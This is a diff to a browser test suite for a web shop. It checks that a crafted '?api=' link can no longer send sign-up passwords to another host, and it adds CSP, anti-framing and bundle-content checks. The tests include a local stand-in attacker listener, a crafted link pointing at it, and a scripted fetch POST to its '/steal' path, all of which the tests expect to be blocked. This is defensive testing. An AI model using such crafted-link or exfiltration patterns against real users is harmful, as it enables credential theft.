@@ -1,8 +1,10 @@
 // A real browser: headless Debian Chromium loads the storefront page from one origin and calls the
 // gateway on another (so CORS preflights and headers are exercised) with Connect-Web; and loads the
-// page the shop serves itself (same origin, no `?api=`), as `npm start` offers it.
+// page the shop serves itself (same origin), as `npm start` offers it. The page's API origin is fixed
+// at build time: `?api=` in a link must not send a user's password elsewhere (issue 19, item 2).
 import { existsSync } from "node:fs";
-import { mkdtemp, rm } from "node:fs/promises";
+import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
+import { createServer, type Server } from "node:http";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { createClient } from "@connectrpc/connect";
@@ -13,6 +15,7 @@ import { GatewayService } from "../../gen/shop/gateway/v1/gateway_pb.ts";
 import { createHost, serveStaticFiles, silentLogger } from "../../mesh/host/index.ts";
 import type { InProcessShop } from "../../services/in-process-shop.ts";
 import { buildWeb } from "../../web/build.ts";
+import { withSecurityHeaders } from "../../web/security-headers.ts";
 import { startTestShop, uniqueEmail } from "./shop-fixture.ts";
 
 const CHROMIUM = process.env.CHROMIUM_PATH ?? "/usr/bin/chromium";
@@ -34,17 +37,39 @@ interface WebServer {
 }
 
 /** Serves `dir` from a Weft host with no services of its own (a different origin than the shop). */
-async function servePage(dir: string): Promise<WebServer> {
-  const host = createHost({ port: 0, logger: silentLogger, httpFallback: serveStaticFiles({ root: dir }) });
+async function servePage(dir: string, connectOrigins: () => string[]): Promise<WebServer> {
+  const files = serveStaticFiles({ root: dir });
+  // The shop's origin is known only after the page servers start (the shop's CORS list names them).
+  const host = createHost({ port: 0, logger: silentLogger, httpFallback: (req, res) => withSecurityHeaders(files, { connectOrigins: connectOrigins() })(req, res) });
   const { url } = await host.listen();
   return { url, origin: new URL(url).origin, close: () => host.close() };
 }
 
+/** A plain HTTP listener standing in for an attacker's host: records every request that reaches it. */
+interface Listener {
+  readonly origin: string;
+  readonly requests: string[];
+  close(): Promise<void>;
+}
+
+async function startListener(): Promise<Listener> {
+  const requests: string[] = [];
+  const server: Server = createServer((req, res) => {
+    requests.push(`${req.method} ${req.url}`);
+    res.writeHead(200, { "access-control-allow-origin": "*", "access-control-allow-headers": "*" }).end("{}");
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const { port } = server.address() as { port: number };
+  return { origin: `http://127.0.0.1:${port}`, requests, close: () => new Promise((resolve) => server.close(() => resolve())) };
+}
+
 let outDir: string;
+let crossOriginDir: string;
 let web: WebServer;
 let strangerWeb: WebServer;
 let shop: InProcessShop;
 let browser: Browser;
+let attacker: Listener;
 let gateway: ReturnType<typeof createClient<typeof GatewayService>>;
 
 beforeAll(async () => {
@@ -52,14 +77,18 @@ beforeAll(async () => {
     throw new Error(`Chromium not found at ${CHROMIUM}: install Debian's chromium package (apt-get install chromium; .ci/run does this) or set CHROMIUM_PATH`);
   }
   outDir = await mkdtemp(join(tmpdir(), "weft-web-"));
+  crossOriginDir = await mkdtemp(join(tmpdir(), "weft-web-cross-"));
   await buildWeb(outDir);
-  web = await servePage(outDir);
-  strangerWeb = await servePage(outDir);
+  web = await servePage(crossOriginDir, () => [shop.url]);
+  strangerWeb = await servePage(crossOriginDir, () => [shop.url]);
+  attacker = await startListener();
   // Only the first page origin may call the API from a browser; the shop also serves the page itself.
   shop = await startTestShop({
     corsAllowedOrigins: [web.origin],
-    httpFallback: serveStaticFiles({ root: outDir, immutablePrefixes: ["/assets/"] }),
+    httpFallback: withSecurityHeaders(serveStaticFiles({ root: outDir, immutablePrefixes: ["/assets/"] })),
   });
+  // The other origins serve a page built to call the shop (the allow-list of one: its build's apiOrigin).
+  await buildWeb(crossOriginDir, { apiOrigin: shop.url });
   gateway = createClient(GatewayService, createConnectTransport({ baseUrl: shop.url, httpVersion: "1.1" }));
   // playwright gives every launch a fresh, temporary user-data-dir (it refuses a --user-data-dir argument).
   browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS });
@@ -70,12 +99,14 @@ afterAll(async () => {
   await shop?.close();
   await web?.close();
   await strangerWeb?.close();
+  await attacker?.close();
   if (outDir) await rm(outDir, { recursive: true, force: true });
+  if (crossOriginDir) await rm(crossOriginDir, { recursive: true, force: true });
 });
 
 async function openStorefront(from: WebServer): Promise<Page> {
   const page = await browser.newPage();
-  await page.goto(`${from.url}/?api=${shop.url}`);
+  await page.goto(`${from.url}/`);
   return page;
 }
 
@@ -90,13 +121,15 @@ function rows(page: Page) {
   );
 }
 
-/** Signs up through the page's form and waits until it shows the account signed in. */
-async function signUp(page: Page, email: string, password: string, displayName: string): Promise<void> {
+/** Fills and sends the page's sign-up form with a fresh email; resolves once the page shows it signed in. */
+async function signUp(page: Page, label: string, password: string, displayName: string): Promise<string> {
+  const email = uniqueEmail(label);
   await page.fill('#sign-up input[name="email"]', email);
   await page.fill('#sign-up input[name="password"]', password);
   await page.fill('#sign-up input[name="displayName"]', displayName);
   await page.click("#sign-up button");
   await page.waitForSelector('#account[data-state="signed-in"]', { timeout: 15_000 });
+  return email;
 }
 
 describe("storefront in headless Chromium", () => {
@@ -121,8 +154,7 @@ describe("storefront in headless Chromium", () => {
     const [first] = await rows(page);
     expect(first.name?.toLowerCase()).toContain("kettle");
 
-    const email = uniqueEmail("browser");
-    await signUp(page, email, "browser-pass-1", "Browser");
+    const email = await signUp(page, "browser", "browser-pass-1", "Browser");
     expect(await page.textContent("#account")).toContain(email);
 
     const before = (await gateway.getProductDetails({ id: first.id! })).product!.available;
@@ -167,8 +199,7 @@ describe("storefront in headless Chromium", () => {
     const expected = await gateway.browse({ pageSize: 10 });
     expect((await rows(page)).map((row) => row.id)).toEqual(expected.products.map((v) => v.product?.id));
 
-    const email = uniqueEmail("same-origin");
-    await signUp(page, email, "browser-pass-2", "Same Origin");
+    const email = await signUp(page, "same-origin", "browser-pass-2", "Same Origin");
     const product = (await rows(page)).find((row) => Number(row.stock) > 0)!;
     await page.click(`#products tr[data-product-id="${product.id}"] button`);
     await page.waitForSelector('#status[data-state="ordered"]', { timeout: 15_000 });
@@ -195,8 +226,7 @@ describe("storefront in headless Chromium", () => {
     const page = await browser.newPage();
     await page.goto(`${shop.url}/`);
     await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
-    const email = uniqueEmail("reload");
-    await signUp(page, email, "browser-pass-3", "Reloader");
+    const email = await signUp(page, "reload", "browser-pass-3", "Reloader");
 
     await page.reload();
     await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
@@ -230,5 +260,58 @@ describe("storefront in headless Chromium", () => {
     expect(favicon.status()).toBe(200);
     expect(favicon.headers()["content-type"]).toBe("image/x-icon");
     await page.close();
+  });
+  it("ignores ?api= pointing elsewhere: the sign-up goes to the shop, nothing reaches the other host", async () => {
+    const page = await browser.newPage();
+    const violations: string[] = [];
+    page.on("console", (message) => {
+      if (message.text().includes("Content Security Policy")) violations.push(message.text());
+    });
+    await page.goto(`${shop.url}/?api=${attacker.origin}`);
+    await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
+    expect(await page.textContent("#api-url")).toBe(new URL(shop.url).origin);
+    const email = await signUp(page, "crafted-link", "crafted-link-pass-3", "Bystander");
+    expect(await page.textContent("#account")).toContain(email);
+    // Even script on the page cannot reach another origin: connect-src 'self'.
+    const escaped = await page.evaluate((url) => fetch(url, { method: "POST", body: "x" }).then(() => "sent", () => "blocked"), `${attacker.origin}/steal`);
+    expect(escaped).toBe("blocked");
+    expect(attacker.requests).toEqual([]);
+    expect(violations.some((text) => text.includes("connect-src"))).toBe(true);
+    await page.close();
+  });
+
+  it("is served with a CSP (connect-src 'self', frame-ancestors 'none'), X-Frame-Options and Referrer-Policy, and cannot be framed", async () => {
+    const page = await browser.newPage();
+    const response = await page.goto(`${shop.url}/`);
+    const headers = response!.headers();
+    expect(headers["content-security-policy"]).toContain("connect-src 'self';");
+    expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'");
+    expect(headers["content-security-policy"]).toContain("script-src 'self'");
+    expect(headers["x-frame-options"]).toBe("DENY");
+    expect(headers["referrer-policy"]).toBe("no-referrer");
+    // The page itself runs under its policy (no violation: every script and style is its own file).
+    await page.waitForSelector('#status[data-state="ok"]', { timeout: 15_000 });
+    // Another site frames it: Chromium refuses to render the shop inside the frame.
+    const framer = await browser.newPage();
+    await framer.goto(`${attacker.origin}/framer`);
+    await framer.setContent(`<iframe id="shop" src="${shop.url}/"></iframe>`);
+    await framer.waitForTimeout(0);
+    const frame = await (await framer.$("#shop"))!.contentFrame();
+    await expect.poll(async () => frame?.url() ?? "", { timeout: 10_000 }).not.toBe("about:blank");
+    expect(await frame!.$("#products").catch(() => null)).toBeNull();
+    await framer.close();
+    await page.close();
+  });
+
+  it("ships a bundle that holds only the public API: no internal service or package, in text or in embedded descriptors", async () => {
+    const assets = join(outDir, "assets");
+    const scripts = (await readdir(assets)).filter((name) => name.endsWith(".js"));
+    expect(scripts.length).toBeGreaterThan(0);
+    const text = (await Promise.all(scripts.map((name) => readFile(join(assets, name), "utf8")))).join("\n");
+    // protobuf-es embeds each file's descriptor as a base64 string literal: decode them all.
+    const decoded = [...text.matchAll(/[`"']([A-Za-z0-9+/_-]{40,}={0,2})[`"']/g)].map((m) => Buffer.from(m[1], "base64").toString("latin1"));
+    expect(decoded.join("").includes("shop.gateway.v1")).toBe(true); // the scan does see descriptors
+    const internal = ["CatalogService", "IdentityService", "InventoryService", "OrderService", "shop.catalog.v1", "shop.identity.v1", "shop.inventory.v1", "shop.orders.v1", "shop/catalog/v1", "shop/identity/v1", "shop/orders/v1"];
+    for (const haystack of [text, ...decoded]) for (const name of internal) expect(haystack.includes(name), name).toBe(false);
   });
 });
